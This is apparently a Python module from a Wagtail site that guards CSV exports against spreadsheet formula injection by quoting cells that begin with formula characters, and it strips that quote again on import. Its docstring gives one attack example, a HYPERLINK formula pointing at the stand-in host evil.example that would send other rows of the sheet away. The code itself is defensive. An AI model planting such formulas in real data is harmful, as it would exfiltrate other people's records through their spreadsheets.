"""CSV cells that a spreadsheet cannot run as formulas ("CSV injection", OWASP).

Excel and LibreOffice run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab
or carriage return before one of them) as a formula when they open a CSV file: a visitor
who types ``=HYPERLINK("http://evil.example/?"&A1;"Cliquez")`` as their name could make an
animator's spreadsheet send the other rows away. Every CSV export of the project writes
its cells through ``spreadsheet_text``, which puts a ``'`` in front of such cells (the
spreadsheets then show the text as typed, without the quote); ``typed_text`` removes it
again when such a file comes back in an import.

Plain numbers (``-4.486``, a longitude west of Greenwich) cannot be formulas and are left
as they are, so that they stay numbers in the spreadsheet. A phone number written
``+33 1 23 45 67 89`` is not a plain number: it gets the quote, and shows as typed (a
spreadsheet would otherwise try to compute it and show an error).

Excel files (``.xlsx``) need none of this: Wagtail's export writes every string as a
string cell, never as a formula.
"""

from __future__ import annotations

import re

from wagtail.admin.views.generic.models import IndexView

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")


def spreadsheet_text(value: object) -> object:
    """``value`` as a CSV cell no spreadsheet will run; non-text values are left alone."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if _PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


def typed_text(cell: str) -> str:
    """The text a person typed, from a cell ``spreadsheet_text`` wrote (the quote removed)."""
    if cell.startswith("'") and cell[1:].startswith(FORMULA_STARTS):
        return cell[1:]
    return cell


class SafeExportIndexView(IndexView):
    """Wagtail's listing with its CSV export made safe to open in a spreadsheet.

    Set as ``index_view_class`` of any ``ModelViewSet`` that has a ``list_export``.
    """

    def preprocess_field_value(self, field: str, value: object, export_format: str) -> object:
        value = super().preprocess_field_value(field, value, export_format)
        if export_format == self.FORMAT_CSV:
            return spreadsheet_text(value)
        return value
